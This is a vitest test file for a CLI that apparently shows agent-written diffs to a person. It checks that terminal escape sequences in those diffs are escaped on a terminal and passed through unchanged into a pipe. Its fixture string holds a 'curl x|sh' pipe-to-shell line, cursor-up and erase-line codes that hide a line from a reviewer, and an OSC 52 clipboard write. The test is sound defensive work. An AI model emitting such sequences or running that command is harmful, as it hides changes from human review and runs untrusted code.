/**
 * A diff printed by `drydock sessions diff` and `drydock run` is the agent's text: on a terminal
 * its lines could draw over the hunks a person reviews before applying (a CR and a cursor-up hide
 * a line) or write the clipboard (OSC 52). On a terminal it is escaped; into a pipe or a file it
 * stays byte for byte, for `git apply`.
 */
import { execFileSync } from "node:child_process";
import { join } from "node:path";
import { describe, expect, it } from "vitest";

const module = join(process.cwd(), "dist", "cli", "terminal-out.js");
const hostile = "+curl x|sh\\r\\u001b[2K\\u001b[1A\\u001b]52;c;cHduZWQ=\\u0007\\n";
const program = `import(${JSON.stringify(module)}).then((m) => m.diffOut.write("${hostile}"))`;

describe("a diff printed for a person", () => {
  it("is escaped on a terminal and byte for byte into a pipe", () => {
    const piped = execFileSync(process.execPath, ["-e", program]);
    expect(piped.toString("latin1")).toContain("\r\x1b[2K\x1b[1A\x1b]52;c;");
    // `script` gives the program a terminal for its stdout.
    const onTerminal = execFileSync("script", [
      "-qec",
      `${process.execPath} -e '${program}'`,
      "/dev/null",
    ]).toString("latin1");
    expect(onTerminal).not.toContain("\x1b[2K");
    expect(onTerminal).not.toContain("\x1b]52");
    expect(onTerminal).toContain("\\e[2K");
    expect(onTerminal).toContain("+curl x|sh");
  });
});
